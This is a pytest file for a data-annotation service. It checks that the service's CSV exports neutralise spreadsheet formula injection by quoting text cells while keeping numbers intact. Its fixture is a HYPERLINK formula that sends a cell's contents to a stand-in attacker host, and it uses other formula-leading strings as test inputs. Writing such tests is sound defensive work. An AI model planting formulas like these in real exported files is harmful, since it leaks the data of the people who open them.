"""Every CSV the service writes opens in a spreadsheet as data: a text cell that a spreadsheet would
run as a formula (=, +, -, @, tab, CR first) gets a leading quote; numbers stay numbers."""

import base64
import csv
import io

import pytest

from analysis import exports
from annotation import services
from annotation.services import workers as workers_service
from qa.csvsafe import csv_cell
from tests.annotation.factories import persona_dataset, running_batch, workers

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "value, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain text", "plain text"),
        ("-0.5", "-0.5"),  # a number written as text cannot be a formula
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_only_where_a_spreadsheet_would_run_it(value, written):
    assert csv_cell(value) == written


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _worker_row(username):
    share = {"value": -0.5, "n": 2}
    return {
        "worker": 1, "username": username, "judgments": 2, "agrees_with_others": share, "agrees_with_label": share,
        "gold_accuracy": share, "median_seconds": 3.0, "flags": [],
    }  # fmt: skip


def test_the_workers_csv_neutralises_text_and_keeps_negative_numbers():
    rows = _rows(exports.workers_csv({"workers": [_worker_row(FORMULA)]}))
    assert rows[1][1] == "'" + FORMULA
    assert rows[1][3] == "-0.5"


def test_the_examples_csv_neutralises_answers():
    columns = {c: [None] for c in exports.EXAMPLE_COLUMNS}
    columns.update(item=[1], majority_answer=["@cmd"], dawid_skene_answer=["-1+1"], relevance_mean=[-0.25])
    rows = _rows("".join(exports.examples_csv_lines(columns)))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["majority_answer"], row["dawid_skene_answer"], row["relevance_mean"]) == (
        "'@cmd",
        "'-1+1",
        "-0.25",
    )


def test_the_datasets_csv_neutralises_the_dataset_name():
    share = {"value": None, "ci_low": None, "ci_high": None, "successes": 0, "n": 0}
    estimate = {
        "value": -0.1,
        "se": None,
        "ci_low": None,
        "ci_high": None,
        "items_used": 0,
        "items_left_out": 0,
    }
    figures = {
        "examples": 1, "judgments": 0, "majority_agrees_with_label": share, "answer_agrees_with_label": share,
        "fleiss_kappa_answers": estimate, "fleiss_kappa_ambiguity": estimate, "krippendorff_alpha_relevance": estimate,
        "relevance": {"mean": None, "sd": None, "histogram": [0, 0, 0, 0, 0]}, "ambiguous_votes": [0],
    }  # fmt: skip
    rows = _rows(exports.datasets_csv({"datasets": [{**figures, "dataset": {"slug": "=evil"}}]}))
    assert rows[1][0] == "'=evil" and rows[1][10] == "-0.1"


@pytest.mark.django_db
def test_the_judgments_csv_neutralises_a_workers_comment(api, researcher):
    batch = running_batch(researcher, [persona_dataset(rows=2)], overlap=1)
    (w,) = workers(1)
    assignment = services.assignment_claim_next(worker=w, batch=batch)
    services.judgment_submit(
        assignment_id=assignment.pk, worker=w, relevance=4, answer=" Yes", ambiguous=False, comment=FORMULA
    )
    response = api(researcher).get(f"/api/v1/batches/{batch.pk}/judgments?format=csv")
    rows = _rows(b"".join(response.streaming_content).decode())
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["comment"] == "'" + FORMULA and row["relevance"] == "4"


@pytest.mark.django_db
def test_the_credentials_csv_neutralises_its_cells(client, researcher, monkeypatch):
    monkeypatch.setattr(workers_service, "_password", lambda: "=1+1")
    client.force_login(researcher)
    page = client.post("/workers/new", {"usernames": "ann"}, follow=True).content.decode()
    encoded = page.split("data:text/csv;base64,")[1].split('"')[0]
    rows = _rows(base64.b64decode(encoded).decode())
    assert rows[1] == ["ann", "'=1+1"]


def test_generated_passwords_never_start_with_a_minus(monkeypatch):
    """A leading '-' would be neutralised in the credentials CSV and the password copied wrong."""
    tokens = iter(["-abc", "-def", "ghi"])
    monkeypatch.setattr(workers_service.secrets, "token_urlsafe", lambda n: next(tokens))
    assert workers_service._password() == "ghi"
